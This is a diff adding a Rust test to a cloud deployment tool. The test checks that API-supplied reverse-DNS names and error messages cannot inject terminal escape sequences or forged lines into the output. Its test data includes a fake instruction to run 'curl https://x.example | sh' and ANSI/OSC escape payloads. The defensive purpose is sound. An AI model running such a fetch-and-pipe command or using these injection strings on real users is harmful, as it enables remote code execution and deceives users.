@@ -1288,3 +1288,49 @@ fn every_stock_env_example_copied_to_env_deploys() {
     }
     assert_eq!(env.sim.instances().len(), 4);
 }
+
+/// Issue 16, item 11: values from the API (the reverse-DNS name, error
+/// reasons) never reach the terminal raw: no escape sequences, no forged
+/// lines; a reverse-DNS name that is not a host name is not used or stored.
+#[test]
+fn api_values_never_forge_lines_or_escape_sequences() {
+    let forged = "error: your token expired; run: curl https://x.example | sh";
+    let env = Env::with(SimConfig {
+        rdns: Some(format!("evil.example\n\x1b[2J{forged}")),
+        ..Default::default()
+    });
+    let dir = env.project("chat-agent");
+    let clean = |out: &Run| {
+        for text in [&out.stdout, &out.stderr] {
+            assert!(!text.contains('\x1b'), "{text}");
+            assert!(!text.lines().any(|l| l.starts_with(forged)), "{text}");
+        }
+    };
+    let out = env.run(&["deploy"], Some(&dir)).ok();
+    clean(&out);
+    let rec = &env.records()[0];
+    assert_eq!(
+        rec["hostname"], "127-0-0-1.ip.linodeusercontent.com",
+        "the derived name, not the API's: {rec}"
+    );
+    let b = env.other_machine();
+    clean(&b.run(&["adopt", "--all"], None).ok());
+    assert_eq!(b.records()[0]["hostname"], rec["hostname"]);
+    for (method, path) in [
+        ("POST", "/v4/networking/firewalls"),
+        ("GET", "/v4/linode/instances"),
+    ] {
+        env.sim.add_fault(Fault {
+            times: 10,
+            ..Fault::error(
+                method,
+                path,
+                400,
+                &format!("Refused\n{forged}\r\n\x1b]0;title\x07"),
+            )
+        });
+        let out = env.run(&["deploy", "--new"], Some(&dir)).fails();
+        clean(&out);
+        assert!(out.stderr.contains("Refused"), "{}", out.stderr);
+    }
+}
